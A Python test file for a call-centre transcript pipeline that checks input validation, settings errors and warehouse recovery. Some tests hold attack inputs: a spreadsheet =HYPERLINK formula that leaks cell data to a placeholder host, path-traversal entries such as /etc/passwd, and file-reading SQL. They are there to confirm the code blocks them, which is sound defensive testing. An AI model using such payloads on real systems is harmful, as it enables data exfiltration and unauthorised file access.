"""Issue 18: bad input, bad settings, kills and faults; each test reproduced its fault on the code before the fix."""

from __future__ import annotations

import os
from pathlib import Path

import pendulum
import pytest
from conftest import SAMPLES


def test_a_scheduled_run_processes_the_night_before_with_the_datetime_prefect_passes():
    from callintel.flows.schedule import night_date

    at_two = pendulum.datetime(2026, 12, 2, 18, 0, tz="UTC")  # 02:00 on 3 Dec in Shanghai: the cron's run
    assert str(night_date(at_two, "Asia/Shanghai", -1)) == "2026-12-02"
    local = pendulum.datetime(2026, 12, 3, 2, 0, tz="Asia/Shanghai")
    assert str(night_date(local, "Asia/Shanghai", -1)) == "2026-12-02"
    assert str(night_date(at_two, "UTC", 0)) == "2026-12-02"


def test_ids_that_look_like_formulas_reach_spreadsheets_as_text(settings, tmp_path: Path):
    """A call_id `=1+2...` and an agent_id `=HYPERLINK(...)` (a manifest or an imported transcript says so)."""
    import csv
    import json

    from openpyxl import load_workbook

    from callintel.evaluation.calls import land
    from callintel.flows.steps import run_steps
    from callintel.warehouse.db import connect
    from callintel.warehouse.export import export_night
    from callintel.warehouse.script_library import export_script_library

    dialogues = json.loads((SAMPLES / "dialogues.json").read_text(encoding="utf-8"))["calls"]
    for i, d in enumerate(dialogues):
        d["call_id"] = f"=1+{i}"
        d["agent_id"] = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")' if i % 2 else "@SUM(A1:A9)"
    con = connect(settings.path("warehouse"))
    nights = land(con, dialogues, settings)
    run_steps(con, nights, settings)  # the library holds replies of resolved calls: every step, as a night
    written = export_night(con, tmp_path / "out", settings) | export_script_library(con, tmp_path / "out")
    con.close()

    for key in ("xlsx", "script_library_xlsx"):
        book = load_workbook(written[key])
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        risky = [c for c in cells if c.value.startswith(("=", "@"))]
        assert risky, f"{key}: the test data should reach the workbook"
        assert {c.data_type for c in risky} == {"s"}, key  # text, not formulas
    for key, path in written.items():
        if not path.endswith(".csv"):
            continue
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                bad = [v for v in row if v.startswith(("=", "+", "@", "\t", "\r"))
                       or (v.startswith("-") and not _number(v))]
                assert not bad, (key, bad)
    library = Path(written["script_library_csv"]).read_text(encoding="utf-8-sig")
    assert "'=1+" in library or "'@SUM" in library


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _callintel(*args: str, env: dict | None = None, timeout: float = 300):
    import os
    import subprocess
    import sys

    run_env = dict(os.environ, **(env or {}))
    return subprocess.run([str(Path(sys.executable).with_name("callintel")), *args], capture_output=True, text=True,
                          timeout=timeout, env={k: v for k, v in run_env.items() if v is not None})


def test_wrong_settings_exit_2_naming_key_value_and_what_is_allowed(tmp_path: Path):
    manifest = tmp_path / "m.csv"
    manifest.write_text("call_id,audio_path,caller_number,agent_id,started_at,channel_layout\n")
    cases = {'[night]\ncall_timeout_s = -5\n': ("call_timeout_s", "-5", ">= 0"),
             '[night]\ntask_runner = "kubernetes"\n': ("task_runner", "kubernetes", "'threads', 'dask'"),
             '[night]\nmax_concurrent_calls = "4"\n': ("max_concurrent_calls", "'4'", "whole number"),
             '[night]\ntimezone = "Mars/Olympus"\n': ("timezone", "Mars/Olympus", "IANA"),
             '[review]\nmin_call_s = "short"\n': ("min_call_s", "short", "number")}
    for i, (text, wanted) in enumerate(cases.items()):
        config = tmp_path / f"c{i}.toml"
        config.write_text(f'[paths]\nwarehouse = "{tmp_path / "w.duckdb"}"\n' + text)
        run = _callintel("run", str(manifest), "--config", str(config))
        assert run.returncode == 2, (text, run.stdout + run.stderr)
        said = " ".join(run.stderr.split())
        assert all(w in said for w in wanted), (text, run.stderr)
        assert "continues" not in run.stderr and "Traceback" not in run.stderr


@pytest.mark.slow  # the whole command in a subprocess
def test_a_missing_caller_hash_key_is_a_configuration_error(tmp_path: Path):
    manifest = tmp_path / "m.csv"
    manifest.write_text("call_id,audio_path,caller_number,agent_id,started_at,channel_layout\n")
    config = tmp_path / "c.toml"
    config.write_text(f'[paths]\nwarehouse = "{tmp_path / "w.duckdb"}"\n')
    run = _callintel("run", str(manifest), "--config", str(config), env={"CALLINTEL_CALLER_HASH_KEY": None})
    assert run.returncode == 2, run.stdout + run.stderr
    assert "[privacy]" in run.stderr and "continues" not in run.stderr


def test_a_night_that_broke_before_its_working_copy_does_not_promise_a_continuation(tmp_path: Path):
    from rich.console import Console

    from callintel.flows.outcome import failed_night

    console = Console(record=True, width=200)
    assert failed_night(RuntimeError("disk full at [paths] warehouse"), console, tmp_path / "w.work.duckdb") == 4
    text = console.export_text()
    assert "continues" not in text and "[paths] warehouse" in text
    (tmp_path / "w.work.duckdb").write_bytes(b"")
    failed_night(RuntimeError("disk full"), console, tmp_path / "w.work.duckdb")
    assert "continues" in console.export_text()


def test_help_and_messages_keep_bracketed_setting_names():
    run = _callintel("serve", "--help")
    assert "[schedule] cron" in " ".join(run.stdout.split()), run.stdout
    from rich.console import Console

    from callintel.flows.outcome import print_summary

    console = Console(record=True, width=300)
    print_summary({"status": "partial", "run_id": "r1", "to_review": [("2026-11-20", "C1", 1.0, "x [night] y")],
                   "summary": {"calls_in": 1, "done": 1, "cached": 0, "failed": 0, "to_review": 1, "audio_hours": 0,
                               "wall_seconds": 1, "calls_per_hour": 1, "slowest_calls": []}}, console)
    assert "x [night] y" in console.export_text()


def _warehouse(path: Path) -> Path:
    from callintel.warehouse.db import connect

    con = connect(path)
    con.execute("CHECKPOINT")
    con.close()
    return path


def test_query_reads_the_warehouse_only_unless_files_are_allowed(tmp_path: Path):
    db = _warehouse(tmp_path / "w.duckdb")
    (tmp_path / "secret.txt").write_text("a,b\n1,2\n")
    target = tmp_path / "x.csv"
    for sql in (f"COPY (SELECT 1) TO '{target}'", f"SELECT * FROM read_csv('{tmp_path / 'secret.txt'}')",
                f"ATTACH '{tmp_path / 'other.duckdb'}' AS o"):
        run = _callintel("query", "--db", str(db), sql)
        assert run.returncode == 1 and "disabled" in run.stderr, (sql, run.stdout + run.stderr)
    assert not target.exists() and not (tmp_path / "other.duckdb").exists()
    assert _callintel("query", "--db", str(db), "--csv", "SELECT count(*) AS n FROM calls").stdout.split() == ["n", "0"]
    run = _callintel("query", "--db", str(db), "--allow-files", f"COPY (SELECT 1 AS one) TO '{target}'")
    assert run.returncode == 0 and target.read_text().split() == ["one", "1"], run.stderr


def test_status_on_a_damaged_or_foreign_file_says_so_without_a_traceback(tmp_path: Path):
    damaged = _warehouse(tmp_path / "damaged.duckdb")
    with damaged.open("r+b") as fh:  # a block of the file overwritten (a disk fault, a bad copy)
        fh.seek(4096)
        fh.write(b"\0" * 4096)
    foreign = tmp_path / "foreign.duckdb"
    foreign.write_text("call_id,agent_id\n" * 500)  # someone copied a CSV over the warehouse
    for db in (damaged, foreign):
        run = _callintel("status", "--db", str(db))
        said = " ".join((run.stdout + run.stderr).split())
        assert run.returncode == 1, said
        assert "Traceback" not in said and "damaged or is not a DuckDB" in said, said
        assert "holds it open" not in said and "other processes" not in said


def _rows(db: Path) -> int:
    import duckdb

    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute("SELECT count(*) FROM t").fetchone()[0]
    finally:
        con.close()


def _write_rows(db: Path, n: int) -> None:
    import duckdb

    con = duckdb.connect(str(db))
    con.execute("CREATE OR REPLACE TABLE t AS SELECT range AS n FROM range(?)", [n])
    con.execute("CHECKPOINT")
    con.close()


def test_a_leftover_working_copy_never_overwrites_a_restored_warehouse(tmp_path: Path):
    import shutil

    from callintel.warehouse.publish import NightFiles, prepare_working_copy, publish

    files = NightFiles(tmp_path / "w.duckdb")
    _write_rows(files.published, 10)
    shutil.copy(files.published, tmp_path / "backup.duckdb")  # last week's backup: 10 rows
    prepare_working_copy(files)
    _write_rows(files.work, 3)  # a night rewrote the table in its copy, then was killed (nothing published)
    _write_rows(tmp_path / "backup.duckdb", 25)
    shutil.copy(tmp_path / "backup.duckdb", files.published)  # the operator restores a backup: 25 rows

    copy = prepare_working_copy(files)
    assert not copy.resumed and "changed since the copy was taken" in copy.discarded
    assert _rows(files.work) == 25  # the night starts from the restored file
    assert _rows(files.discarded) == 3  # the leftover is set aside, not deleted
    publish(files)
    assert _rows(files.published) == 25

    # the copy a night left on the file it was taken from is continued
    prepare_working_copy(files)
    _write_rows(files.work, 7)
    again = prepare_working_copy(files)
    assert again.resumed and not again.discarded and _rows(files.work) == 7


def test_a_corrupt_leftover_working_copy_is_set_aside_and_the_night_starts_again(tmp_path: Path):
    from callintel.warehouse.db import connect
    from callintel.warehouse.publish import NightFiles, prepare_working_copy

    files = NightFiles(tmp_path / "w.duckdb")
    _write_rows(files.published, 4)
    prepare_working_copy(files)
    files.work.write_bytes(b"\0" * 8192 + b"half a page")  # the disk filled up mid-write
    copy = prepare_working_copy(files)
    assert not copy.resumed and "does not open" in copy.discarded
    connect(files.work).close()  # opens (and migrates): the next night goes on
    assert _rows(files.work) == 4


def test_planning_reads_only_regular_files_inside_the_audio_folder_within_limits(tmp_path: Path, settings):
    import os
    import threading

    from callintel.flows.night import plan
    from callintel.manifest import read_manifest

    audio = tmp_path / "audio"
    (audio / "sub").mkdir(parents=True)
    (audio / "sub/ok.wav").write_bytes(b"RIFF" + b"\0" * 4000)
    (audio / "big.wav").write_bytes(b"\0" * 3 * 1024 * 1024)
    os.mkfifo(audio / "pipe.wav")
    (audio / "link.wav").symlink_to("/etc/hostname")
    rows = {"Z1": "/dev/zero", "P1": "/etc/passwd", "F1": "pipe.wav", "D1": "sub", "B1": "big.wav",
            "L1": "link.wav", "U1": "../outside.wav", "OK": "sub/ok.wav"}
    (tmp_path / "outside.wav").write_bytes(b"RIFF")
    manifest = tmp_path / "nights/m.csv"
    manifest.parent.mkdir()
    manifest.write_text("call_id,audio_path,caller_number,agent_id,started_at,channel_layout\n" + "".join(
        f"{cid},{path},,A1,2026-11-22T09:00:00+08:00,mono\n" for cid, path in rows.items()))
    settings = settings.with_overrides({"night": {"audio_root": str(audio), "max_file_mb": 2}})
    found: dict = {}
    worker = threading.Thread(target=lambda: found.update(zip(
        ("planned", "failed"), plan(read_manifest(manifest, "Asia/Shanghai", audio), settings), strict=True)),
        daemon=True)
    worker.start()
    worker.join(120)
    assert not worker.is_alive(), "planning hung"
    assert [p.call.call_id for p in found["planned"]] == ["OK"]
    assert found["planned"][0].call.audio_path == audio / "sub/ok.wav"  # relative paths resolve in audio_root
    reasons = {f.item: f.reason for f in found["failed"]}
    assert set(reasons) == set(rows) - {"OK"}
    for cid in ("Z1", "P1", "L1", "U1"):
        assert "outside the audio folder" in reasons[cid] and "[night] audio_root" in reasons[cid], reasons[cid]
    assert "not a regular file" in reasons["F1"] and "a folder" in reasons["D1"]
    assert "[night] max_file_mb" in reasons["B1"]


def test_reading_a_file_for_the_plan_is_limited_in_time(tmp_path: Path):
    import pytest

    from callintel.input_files import InputFileError, sha256_within

    slow = tmp_path / "slow.wav"
    slow.write_bytes(os.urandom(64 * 1024 * 1024))
    with pytest.raises(InputFileError, match=r"plan_timeout_s"):
        sha256_within(slow, 0.001)
    assert len(sha256_within(slow, 0)) == 64


def test_failures_clear_when_the_call_lands_from_another_manifest(tmp_path: Path):
    from callintel.manifest import read_manifest
    from callintel.records import Transcript, Utterance
    from callintel.warehouse.calls import write_call
    from callintel.warehouse.db import connect
    from callintel.warehouse.runs import write_failures

    header = "call_id,transcript_path,caller_number,agent_id,started_at\n"
    first = tmp_path / "night.csv"
    first.write_text(header + "C1,c1.json,,A1,yesterday\n"     # line 2: bad time, has a call_id
                     + ",c2.json,,A1,2026-11-22T09:00:00+08:00\n"  # line 3: no call_id
                     + "C3,c3.json,,A1,2026-11-22T09:00:00+08:00\n"
                     + "C3,c4.json,,A1,2026-11-22T09:00:00+08:00\n")  # line 5: a duplicate id
    con = connect(tmp_path / "w.duckdb")
    failed = read_manifest(first, "Asia/Shanghai").failures
    assert {f.item for f in failed} == {"C1", "line 3", "C3 (line 5)"}
    write_failures(con, failed, str(first), "run-1")

    fixed = tmp_path / "night-fixed.csv"  # the centre sends the two rows again, corrected
    fixed.write_text(header + "C1,c1.json,,A1,2026-11-22T10:00:00+08:00\nC2,c2.json,,A1,2026-11-22T11:00:00+08:00\n")
    for call in read_manifest(fixed, "Asia/Shanghai").calls:
        t = Transcript(call.call_id, "ab" * 32, 5.0, [Utterance("agent", 0.0, 2.0, "您好", 0)], "k" + call.call_id,
                       [], source="callintel")
        write_call(con, call, t, "run-2", None, False, None)
    left = con.execute("SELECT item FROM failures").fetchall()
    con.close()
    assert left == [("C3 (line 5)",)], left  # the duplicate row of the first manifest is still wrong


def _text_night(folder: Path, calls: int = 2) -> Path:
    """A manifest of transcripts made elsewhere (no Whisper): the night runs in seconds."""
    import json

    greeting = "您好，安和人寿客服，工号001，请问有什么可以帮您？"
    rows = []
    for i in range(calls):
        turns = [{"speaker": "agent", "start": 0.0, "end": 3.5, "text": greeting},
                 {"speaker": "customer", "start": 4.0, "end": 9.0, "text": "我想问一下理赔进度，材料都交了"}]
        (folder / f"t{i}.json").write_text(json.dumps({"turns": turns}, ensure_ascii=False), encoding="utf-8")
        rows.append(f"T{i},t{i}.json,1390000000{i},A1,2026-11-22T{9 + i:02d}:00:00+08:00\n")
    manifest = folder / "night.csv"
    manifest.write_text("call_id,transcript_path,caller_number,agent_id,started_at\n" + "".join(rows))
    return manifest


@pytest.mark.slow  # a whole night
def test_a_failed_export_is_reported_and_never_withholds_the_night(tmp_path: Path, night):
    from rich.console import Console

    from callintel.flows.status import show_status
    from callintel.settings import load_settings
    from callintel.warehouse.publish import NightFiles, read_progress

    manifest = _text_night(tmp_path)
    blocked = tmp_path / "exports"
    blocked.write_text("a file where the exports folder should be")  # unwritable: no folder can be made there
    over = {"paths": {"warehouse": str(tmp_path / "w.duckdb"), "exports": str(blocked)}}
    result = night.run_night(manifest, overrides=over)
    assert result["calls_ok"] == 2 and result["status"] == "succeeded"
    assert result["exit_code"] == 3 and "exports" in result["exports_error"] and result["exports"] == {}
    files = NightFiles(tmp_path / "w.duckdb")
    assert not files.work.exists()  # published
    assert _count(files.published, "SELECT count(*) FROM calls") == 2
    assert _count(files.published, "SELECT count(*) FROM publication WHERE run_id = ?", result["run_id"]) == 1
    assert read_progress(files)["exports_error"] == result["exports_error"]
    console = Console(record=True, width=400)
    assert show_status(load_settings(overrides=over), 5, console) == 0
    said = console.export_text()
    assert f"exports of run {result['run_id']} failed" in said and "NotADirectoryError" in said


def _count(db: Path, sql: str, *params) -> int:
    import duckdb

    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(sql, list(params)).fetchone()[0]
    finally:
        con.close()
